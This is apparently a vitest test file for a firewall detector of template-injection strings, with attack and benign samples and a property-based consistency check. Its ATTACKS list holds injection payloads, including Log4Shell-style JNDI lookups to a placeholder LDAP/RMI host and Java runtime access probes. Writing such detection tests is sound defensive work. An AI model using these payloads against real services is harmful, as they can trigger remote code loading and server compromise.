import fc from "fast-check";
import { describe, expect, it } from "vitest";

import { detectTemplate } from "../../../../../runtime/primitives/waf/detect/template.ts";
import { scaled } from "../../../../helpers/scale.ts";

const ATTACKS = [
  "{{7*7}}",
  "${7*7}",
  "#{7*7}",
  "<%= 7*7 %>",
  "${jndi:ldap://a.example/x}",
  "${${lower:j}ndi:rmi://a.example/x}",
  "{{config.items()}}",
  "{{''.__class__.__mro__}}",
  "{% import os %}",
  "${T(java.lang.Runtime)}",
  "*{7*7}",
  "#set($x=1)",
  "{Smarty_X::y()}",
  '{@math key="8"}',
];
const HONEST = [
  "Dear <%= name %>, welcome",
  "<%= user.first_name %>",
  "{{ user.name }}",
  "${firstName}",
  "#{last_name}",
  "Hello ${name}, it's {{time}}",
  "a {b} c",
  '{ "a": {} }',
  "100%",
  "{{#if x}}y{{/if}}",
];

describe("detectTemplate", () => {
  it.each(ATTACKS)("sees an expression for a template engine in %j", (value) => {
    const finding = detectTemplate(value);
    expect(finding?.sign).toMatch(/^[a-z0-9-]+$/);
    expect(finding!.start).toBeGreaterThanOrEqual(0);
    expect(finding!.end).toBeGreaterThan(finding!.start);
    expect(finding!.end).toBeLessThanOrEqual(value.length);
  });

  it.each(HONEST)("passes %j", (value) => {
    expect(detectTemplate(value)).toBeUndefined();
  });

  it("answers for every string, twice the same", () => {
    const piece = fc.oneof(
      fc.string(),
      fc.constantFrom(...ATTACKS, ...HONEST),
      fc.constantFrom("'", '"', "<", "$(", "..", "/*", "{{", "\0", "%", "\n"),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 8 }), (pieces) => {
        const value = pieces.join("");
        const finding = detectTemplate(value);
        expect(detectTemplate(value)).toEqual(finding);
        if (finding !== undefined) expect(finding.end).toBeLessThanOrEqual(value.length);
      }),
      { numRuns: scaled(100, 5000) },
    );
  });
});
